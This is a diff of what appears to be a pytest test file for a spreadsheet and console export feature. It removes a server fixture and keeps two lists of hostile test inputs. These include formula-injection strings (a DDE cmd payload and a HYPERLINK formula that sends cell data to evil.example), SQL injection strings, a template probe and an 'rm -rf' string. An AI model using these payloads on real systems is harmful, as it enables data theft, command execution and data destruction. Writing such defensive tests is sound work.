@@ -6,21 +6,12 @@ import time
 
 import pytest
 
-from console_client import Reader
-from harness import BINARY, Martlet, new_id, wait_until
+from harness import BINARY, new_id, wait_until
 from test_console_imports import finished, upload
 from test_consent import ask, person, say
 
 FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd", "@SUM(1)", "\t=1", "\r=1", "＝1", "=HYPERLINK(\"https://evil.example?\"&A1)"]
 NAMES = ["'; DROP TABLE documents; --", "\" OR 1=1 --", "x') OR ('1'='1", "%' UNION SELECT 1,2,3 --", "\\'; --", "<b>&", "{{ 7 * 7 }}", "a\u2028b", "`rm -rf`", "; in last 5 days", "\u202egnp"]
-
-
-@pytest.fixture(scope="module")
-def shop():
-    server = Martlet().start()
-    server.reader = Reader(server).set_password()
-    yield server
-    server.close()
 
 
 def begins_no_formula(text):
